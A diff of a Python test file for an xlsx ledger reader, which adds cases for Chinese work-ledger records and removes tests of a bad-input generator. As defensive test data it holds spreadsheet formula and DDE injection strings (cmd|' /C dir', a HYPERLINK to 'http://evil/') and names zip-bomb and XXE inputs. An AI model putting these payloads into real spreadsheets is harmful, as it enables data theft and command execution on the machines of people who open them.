@@ -4,7 +4,6 @@ No input may raise anything else, hang or fill the memory: each is also read in 
 """
 
 import functools
-import importlib.util
 import io
 import json
 import os
@@ -17,6 +16,7 @@ from collections.abc import Callable
 from datetime import date, datetime
 from pathlib import Path
 from typing import NamedTuple
+from xml.sax.saxutils import escape
 
 import pytest
 import test_package
@@ -40,7 +40,6 @@ from taizhang_xl.errors import DamagedWorkbookError, FileError, ForeignFormatErr
 from taizhang_xl.xlsx.package import open_package, open_package_bytes
 from taizhang_xl.xlsx.reader import read_workbook
 
-SHARED = Path(__file__).resolve().parents[2] / "shared"
 SHEET = "xl/worksheets/sheet1.xml"
 DAMAGED, UNSAFE, FOREIGN = DamagedWorkbookError, UnsafeWorkbookError, ForeignFormatError
 ONE = {"台账": {"A1": "编号"}}
@@ -652,6 +651,90 @@ case("RAR under this name", (FOREIGN, "不是"), lambda: b"Rar!\x1a\x07\x01\x00"
 case("zeros", (FOREIGN, "不是"), lambda: b"\0" * 100_000)
 
 
+# --- ledgers as they come back from units ---------------------------------------------------------------------------
+
+HEADER = ("编号", "任务", "时限", "状态")
+RECORD = (7, "整理会议档案", date(2018, 9, 28), "正在办理")
+SERIAL = 43371  # 2018-09-28
+
+
+def lines(*records):
+    """Return the header and records under it as rows of a sheet; a date becomes its number under a date's format."""
+    return "".join(
+        f'<row r="{row}">{"".join(written(address(row, column), value) for column, value in enumerate(record, 1))}</row>'
+        for row, record in enumerate((HEADER, *records), 1)
+    )
+
+
+def written(at, content):
+    if content == date(2018, 9, 28):
+        return f'<c r="{at}" s="1"><v>{SERIAL}</v></c>'
+    if isinstance(content, int):
+        return f'<c r="{at}"><v>{content}</v></c>'
+    return f'<c r="{at}" t="inlineStr"><is><t xml:space="preserve">{escape(content)}</t></is></c>'
+
+
+def told(*records):
+    """Return what is to be read of the header and these records."""
+    return {"台账": {
+        address(row, column): content for row, record in enumerate((HEADER, *records), 1)
+        for column, content in enumerate(record, 1)
+    }}  # fmt: skip
+
+
+def states(*texts):
+    return [(*RECORD[:3], text) for text in texts]
+
+
+def formula(text, result=""):
+    return f'{lines(RECORD).removesuffix("</row>")}<c r="E2"><f>{text}</f>{result}</c></row>'
+
+
+LEDGER = parts_of({"台账": sheet_xml(lines(RECORD))})
+WRITTEN_DAYS = states(
+    "2018.9.28",
+    "2018年9月28日",
+    "9月28日前",
+    "2018-9-28",
+    "20180928",
+    "２０１８．９．２８",
+    "28/9/2018",
+    "长期",
+    "九月底",
+)
+ALIKE = states(
+    "办结", "办结 ", "办结\u00a0", "办\u200b结", "\ufeff办结", "办 结", "办结\u3000", "辦結", "办结\n", "０７：ａ"
+)
+COMMANDS = states(
+    '=WEBSERVICE("http://example.invalid/"&A2)', "@NOW()", "+1+cmd|' /C dir'!A1", "-1-1", "\t=2+3", "＝2+3"
+)
+
+case("ledger of one record", told(RECORD), lambda: zipped(LEDGER))
+case("ledger in strict form", told(RECORD), lambda: zipped({
+    name: data.replace(MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
+        OFFICE.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships") for name, data in LEDGER.items()}))  # fmt: skip
+case("ledger by an absolute path with backslashes", told(RECORD), lambda: replaced(
+    "xl/_rels/workbook.xml.rels", '"worksheets/sheet1.xml', '"/xl\\worksheets\\sheet1.xml', LEDGER))  # fmt: skip
+case("rows and cells without addresses", {"台账": {"A1": 7, "C1": 9, "B2": 4}}, lambda: xlsx(
+    "<row><c><v>7</v></c><c/><c><v>9</v></c></row><row><c/><c><v>4</v></c></row>"))  # fmt: skip
+case("formula never calculated", told(RECORD), lambda: xlsx(formula('IF(C2&lt;TODAY(),"超期","")')))
+case("formula whose result is out of date", told((*RECORD, 5)), lambda: xlsx(formula("2+2", "<v>5</v>")))
+case("formula of another book and one of DDE", told((*RECORD, 65)), lambda: replaced(
+    BOOK, "</workbook>", '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="9">台账!$A$1</definedName></definedNames></workbook>',
+    parts_of({"台账": sheet_xml(formula("[1]台账!G3+cmd|'/C dir'!A1", "<v>65</v>"))})))  # fmt: skip
+case("days in nine spellings stay as written", told(*WRITTEN_DAYS), lambda: xlsx(lines(*WRITTEN_DAYS)))
+case("words that look alike stay apart", told(*ALIKE), lambda: xlsx(lines(*ALIKE)))
+case("texts that begin like formulas", told(*COMMANDS), lambda: xlsx(lines(*COMMANDS)))
+case("carriage return within a text is a line end", told(*states("甲\n乙")), lambda: xlsx(lines(*states("甲\r\n乙"))))
+case("control signs and escapes in one text", told(*states("甲\r乙\x07丙_x000D_")), lambda: xlsx(
+    lines(*states("甲_x000D_乙_x0007_丙_x005F_x000D_"))))  # fmt: skip
+case("hidden row under a filter", told(RECORD, (8, *RECORD[1:])), lambda: around(
+    after='<autoFilter ref="A1:D3"><filterColumn colId="0"><filters><filter val="7"/></filters></filterColumn></autoFilter>',
+    rows=lines(RECORD, (8, *RECORD[1:])).replace('<row r="3"', '<row r="3" hidden="1"')))  # fmt: skip
+case("title and a blank row above the header", {"台账": {"A1": "2018年工作台账", "A3": "编号", "A4": 7}}, lambda: xlsx(
+    text_row(1, "2018年工作台账") + '<row r="2"/>' + text_row(3, "编号") + '<row r="4"><c r="A4"><v>7</v></c></row>'))  # fmt: skip
+
+
 def two_million_cells():
     letters = [address(1, column)[:-1] for column in range(1, 21)]
     return xlsx("".join(
@@ -757,7 +840,9 @@ def of_package():
         yield from ((f"package: {name}", data) for name, (data, _) in group.items())
 
 
-on_linux = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the peak of memory is read from /proc")
+on_linux = pytest.mark.skipif(
+    not Path("/proc/self/status").exists(), reason="only on Linux: the peak of memory is read from /proc"
+)
 
 
 @on_linux
@@ -794,7 +879,7 @@ def test_there_are_enough_cases():
 
 def test_a_pipe_and_a_device_are_no_workbooks(tmp_path):
     if not hasattr(os, "mkfifo"):
-        pytest.skip("no pipes here")
+        pytest.skip("not on Windows: pipes")
     os.mkfifo(tmp_path / "报表.xlsx")
     with pytest.raises(FileError, match="管道"):
         open_package(tmp_path / "报表.xlsx")
@@ -815,114 +900,6 @@ def test_overlapping_hidden_columns_are_one_set():
     )
     sheet = read_workbook(open_package_bytes(data, Path("报表.xlsx"))).sheet("台账")
     assert sheet.hidden_columns == set(range(2, 16_385))
-
-
-# --- the inputs of make_bad_inputs.py -------------------------------------------------------------------------------
-
-D45306 = date(2024, 1, 15)
-HEADER = {"A1": "编号", "B1": "目标任务", "C1": "完成时限", "D1": "责任单位", "E1": "状态"}
-ROW = {"A2": 1, "B2": "修订议事规则", "C2": D45306, "D2": "办公室", "E2": "办结"}
-CONTROL = {"台账": {**HEADER, **ROW}}
-
-
-def lines(*rows):
-    """The header and rows under it as cells."""
-    return {"台账": {**HEADER, **{
-        address(r, c): v for r, row in enumerate(rows, 2) for c, v in enumerate(row, 1) if v not in (None, "")
-    }}}  # fmt: skip
-
-
-GENERATED = {
-    "00_good_control.xlsx": CONTROL,
-    "02_zero_bytes.xlsx": (FOREIGN, "空文件"),
-    "04_csv_gbk_renamed.xlsx": (FOREIGN, "CSV"),
-    "06_xls_biff_header_renamed.xlsx": (FOREIGN, ".xls"),
-    "08_duplicate_zip_entry_sheet1.xlsx": (UNSAFE, "两份"),
-    "10_media_name_cp936_no_utf8_flag.xlsx": CONTROL,
-    "12_sheet_part_missing.xlsx": (DAMAGED, "内容丢失"),
-    "14_rels_target_backslash_and_absolute.xlsx": CONTROL,
-    "20_zip_bomb_1GiB_spaces_in_sheet.xlsx": (UNSAFE, "大得离谱"),
-    "22_billion_laughs_in_sheet.xlsx": (UNSAFE, "DOCTYPE"),
-    "24_xxe_file_entity.xlsx": (UNSAFE, "DOCTYPE"),
-    "26_dimension_lies_A1_XFD1048576.xlsx": CONTROL,
-    "28_million_empty_styled_rows.xlsx": CONTROL,
-    "30_cell_beyond_grid_XFE1_row9999999.xlsx": (DAMAGED, "第 9999999 行"),
-    "32_merge_A1_XFD1048576.xlsx": CONTROL,
-    "40_sharedstring_index_out_of_range.xlsx": (DAMAGED, "共享字符串 7"),
-    "42_no_cell_refs.xlsx": {"台账": {"A1": 1, "C1": 3, "A2": 4}},
-    "44_formula_no_cached_value.xlsx": lines([1, "t", D45306, "办公室"]),
-    "46_formula_stale_cached_value.xlsx": lines([1, "t", D45306, "办公室", 3]),
-    "48_date_serial_59_60_61_leap_bug.xlsx": lines(
-        [1, "a", date(1900, 2, 28), "x", "y"], [2, "b", 60, "x", "y"], [3, "c", date(1900, 3, 1), "x", "y"], [4, "d", 0, "x", "y"]
-    ),
-    "50_text_dates_mixed.xlsx": lines(*(
-        [n, "a", text, "x", "y"] for n, text in enumerate((
-            "2024.1.15", "2024年1月15日", "1月15日前", "2024-1-15", "20240115", "２０２４．１．１５", "15/1/2024", "长期", "一月底"), 1)
-    )),
-    "52_text_lookalikes_fullwidth_nbsp_zwsp.xlsx": lines(
-        *([n, "t", D45306, "x", text] for n, text in enumerate((
-            "办结", "办结 ", "办结\u00a0", "办\u200b结", "\ufeff办结", "办 结", "办结\u3000", "辦結", "办结\n"), 1)),
-        ["０１２", "t：a", D45306, "x", "办结"], ["1 ", "t:a", D45306, "x", "办结"],
-    ),
-    "54_control_chars_and_x000D_escape.xlsx": lines([1, "A\rB\x07C_x000D_", D45306, "办公室", "办结"]),
-    "56_sheet_xml_gbk_declared.xlsx": CONTROL,
-    "58_strict_ooxml_namespace.xlsx": CONTROL,
-    "60_sheet_xml_cut_mid_row.xlsx": (DAMAGED, "内容坏了"),
-    "62_formula_injection_as_text.xlsx": lines(*(
-        # A line end within a tag's text is one sign in XML, whichever way it is written.
-        [n, text, D45306, "x", "y"] for n, text in enumerate((
-            '=HYPERLINK("http://evil/?"&A1,"点我")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\n=1+1", "＝1+1"), 1)
-    )),
-    "71_hidden_row_and_filter.xlsx": lines([1, "修订议事规则", D45306, "办公室", "办结"], [2, "被隐藏", D45306, "x", "未落实"]),
-    "73_two_sheets_same_name.xlsx": (DAMAGED, "同名"),
-    "75_title_row_above_header.xlsx": {"台账": {
-        "A1": "2024年工作台账", **{f"{a[0]}3": v for a, v in HEADER.items()}, **{f"{a[0]}4": v for a, v in ROW.items()}}},
-    "77_no_sheets.xlsx": (DAMAGED, "没有工作表"),
-    "79_defined_name_broken_and_external_link.xlsx": lines([1, "t", 5, "x", 0]),
-}  # fmt: skip
-
-
-def generator():
-    path = SHARED / "faults" / "make_bad_inputs.py"
-    if not path.exists():
-        pytest.skip("the generator of bad inputs is not here")
-    spec = importlib.util.spec_from_file_location("make_bad_inputs", path)
-    module = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(module)
-    return module
-
-
-def assert_generated(folder, options):
-    module = generator()
-    assert set(module.CASES) == set(GENERATED)
-    module.main(["make_bad_inputs.py", str(folder), *options])
-    wrong = {}
-    for path in sorted(folder.iterdir()):
-        verdict = GENERATED[path.name]
-        try:
-            read = values(path.read_bytes())
-        except WorkbookError as error:
-            if isinstance(verdict, dict) or type(error) is not verdict[0] or verdict[1] not in str(error):
-                wrong[path.name] = str(error)
-        else:
-            if read != verdict:
-                wrong[path.name] = read
-    assert not wrong
-    return len(list(folder.iterdir()))
-
-
-def test_generated_bad_inputs(tmp_path):
-    assert assert_generated(tmp_path, []) == 30
-
-
-@on_linux
-@pytest.mark.slow
-def test_generated_bad_inputs_of_some_megabytes(measure, tmp_path):
-    assert assert_generated(tmp_path, ["--big"]) == 32
-    for path in sorted(tmp_path.iterdir()):
-        _, cpu, memory = measure(path)
-        assert cpu <= 2, path.name
-        assert memory <= 120, path.name
 
 
 def test_the_fuzzer_runs_and_finds_nothing(tmp_path):
